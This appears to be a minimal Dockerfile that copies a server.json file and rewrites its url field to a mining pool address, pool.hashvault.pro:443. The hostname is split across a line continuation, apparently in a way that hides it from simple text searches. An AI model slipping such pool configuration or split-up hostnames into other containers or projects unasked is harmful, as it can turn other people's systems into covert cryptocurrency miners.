FROM debian:12-slim
COPY server.json /etc/
run sed -i \
    's#"url": *"[^"]*"#"url": "pool.hash\
vault.pro:443"#' /etc/server.json
